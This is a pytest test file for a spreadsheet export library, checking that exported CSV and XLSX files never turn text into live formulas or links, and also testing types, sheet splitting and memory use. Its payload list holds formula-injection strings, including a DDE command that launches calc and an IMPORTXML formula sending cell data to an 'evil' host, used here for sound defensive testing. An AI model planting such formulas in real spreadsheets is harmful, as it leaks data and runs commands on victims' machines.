"""Workbooks: the table of the CSV, with every text typed as text."""

import tracemalloc
import zipfile
from datetime import date
from xml.etree import ElementTree

import pytest

from trailstone.reports import export
from trailstone.reports.export import Table
from trailstone.reports.export.cells import FORMULA

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    "{=",
    "==",
    "=-",
    "+=",
    "@=",
    "\t=",
    "\r\n=",
    "-+",
    "'=",
)
TAILS = (
    "1+1", 'HYPERLINK("http://evil","x")', "cmd|' /C calc'!A0", "SUM(A1:A9)", "IMPORTXML(CONCAT(\"http://evil/\",A1),\"//a\")",
)  # fmt: skip
PAYLOADS = [start + tail for start in STARTS for tail in TAILS]


def opened(table):
    """The worksheets of the file: rows of (type, text) by place."""
    with export.workbook(table) as file, zipfile.ZipFile(file) as parts:
        names = sorted(name for name in parts.namelist() if name.startswith("xl/worksheets/sheet"))
        return [ElementTree.fromstring(parts.read(name)) for name in names]  # noqa: S314 - our own file


def cells(sheet):
    return [[(cell.get("t"), "".join(cell.itertext())) for cell in row] for row in sheet.iter(f"{MAIN}row")]


def test_there_are_a_hundred_payloads():
    assert len(set(PAYLOADS)) == 100


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_or_a_link_in_either_file(payload):
    table = ("Names", (payload,), [(payload, 1), (f"{payload} ", None)])
    (sheet,) = opened(Table(*table))
    assert not list(sheet.iter(f"{MAIN}f"))
    assert not list(sheet.iter(f"{MAIN}hyperlink"))
    assert {cell[0] for row in cells(sheet) for cell in row[:1]} == {"inlineStr"}
    written = export.text(Table(*table))
    assert not written[1:].lstrip('"').startswith(FORMULA)


def test_numbers_stay_numbers_days_become_days_and_nothing_is_an_empty_cell():
    (sheet,) = opened(Table("T", ("Name", "Points", "Day"), [("Ben", -3, date(2027, 3, 1)), ("Cho", None, None)]))
    head, ben, cho = cells(sheet)
    assert [text for _, text in head] == ["Name", "Points", "Day"]
    assert ben == [("inlineStr", "Ben"), (None, "-3"), (None, "46447")]  # days since the end of 1899
    assert cho == [("inlineStr", "Cho")]


def test_a_table_longer_than_a_worksheet_goes_on_in_the_next(monkeypatch):
    monkeypatch.setattr("trailstone.reports.export.book.MOST_ROWS", 2)
    first, second, third = opened(Table("Long", ("Number",), ((number,) for number in range(5))))
    assert [len(cells(one)) for one in (first, second, third)] == [3, 3, 2]
    assert cells(second)[0] == cells(first)[0]


def test_the_length_of_a_workbook_costs_no_memory():
    tracemalloc.start()
    try:
        with export.workbook(Table("T", ("A", "B"), ((f"row {number}", number) for number in range(20_000)))) as file:
            size = file.seek(0, 2)
        assert tracemalloc.get_traced_memory()[1] < 2_000_000 + 4 * 65_536
    finally:
        tracemalloc.stop()
    assert size > 100_000


@pytest.mark.parametrize(
    "name", ["", "[]:*?/\\'", "A very long title of a report that no worksheet may have", "Ben's = 8B"]
)
def test_any_title_makes_a_worksheet(name):
    assert len(opened(Table(name, ("A",), [("x",)]))) == 1
